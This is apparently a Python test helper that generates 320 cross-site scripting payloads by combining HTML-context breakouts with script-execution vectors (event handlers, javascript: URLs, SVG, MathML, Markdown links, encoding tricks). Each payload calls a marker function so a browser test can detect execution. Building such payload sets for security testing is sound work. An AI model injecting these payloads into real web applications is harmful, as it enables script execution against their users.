"""Cross-site scripting payloads, made from their parts: a way to break out of
the place where the text lands, times a way to run script. Each payload calls
`__x(<its number>)` when it runs, so a browser test can tell which one did.

The parts are the usual families from public cheat sheets (tags with event
handlers, script and javascript: URLs, SVG and MathML, Markdown links and
images, entity and case tricks), written here from scratch.
"""

BREAKOUTS = [
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "-->",
    "</script>",
    "`",
]

VECTORS = [
    "<script>__x({n})</script>",
    "<ScRiPt>__x({n})</sCrIpT>",
    "<script src=data:,__x({n})></script>",
    "<img src=x onerror=__x({n})>",
    "<img/src=x/onerror=__x({n})>",
    '<img src="x" onerror="__x({n})">',
    "<IMG SRC=x ONERROR=__x({n})>",
    "<svg onload=__x({n})>",
    "<svg><script>__x({n})</script></svg>",
    "<svg><animate onbegin=__x({n}) attributeName=x dur=1s>",
    "<body onload=__x({n})>",
    "<input autofocus onfocus=__x({n})>",
    "<select autofocus onfocus=__x({n})></select>",
    "<textarea autofocus onfocus=__x({n})></textarea>",
    "<details open ontoggle=__x({n})>",
    "<video><source onerror=__x({n})></video>",
    "<audio src=x onerror=__x({n})>",
    '<iframe srcdoc="<script>parent.__x({n})</script>"></iframe>',
    '<iframe src="javascript:parent.__x({n})"></iframe>',
    "<object data=javascript:__x({n})></object>",
    "<embed src=javascript:__x({n})>",
    "<math><mtext><img src=x onerror=__x({n})></mtext></math>",
    "<style>@import 'javascript:__x({n})';</style>",
    '<div style="background:url(javascript:__x({n}))">x</div>',
    '<a href="javascript:__x({n})" id="xss{n}">klik</a>',
    '<a href="jav&#x09;ascript:__x({n})">klik</a>',
    '<a href="javascript&#58;__x({n})">klik</a>',
    "<form><button formaction=javascript:__x({n})>x</button></form>",
    "<marquee onstart=__x({n})>x</marquee>",
    "<base href=javascript:__x({n})//>",
    "[klik](javascript:__x({n}))",
    "[klik](JaVaScRiPt:__x({n}))",
    '![x](x" onerror="__x({n}))',
    "[x](data:text/html,<script>__x({n})</script>)",
    "<javascript:__x({n})>",
    "[a][r{n}]\n\n[r{n}]: javascript:__x({n})",
    "<p onmouseover=__x({n})>over</p>",
    "<img src=x:x onerror=&#x5F;&#x5F;x({n})>",
    "&lt;img src=x onerror=__x({n})&gt;",
    "{{{{7*7}}}} <img src=x onerror=__x({n})>",
]


def payloads() -> list[str]:
    """Every breakout with every vector: 320 payloads, numbered from 1."""
    made = []
    for breakout in BREAKOUTS:
        for vector in VECTORS:
            made.append(breakout + vector.format(n=len(made) + 1))
    return made


def packed(items: list[str], limit: int, separator: str = "\n\n") -> list[str]:
    """`items` joined into as few texts as fit in `limit` characters each."""
    texts, current = [], ""
    for item in items:
        candidate = f"{current}{separator}{item}" if current else item
        if len(candidate) > limit and current:
            texts.append(current)
            current = item
        else:
            current = candidate
    if current:
        texts.append(current)
    return texts
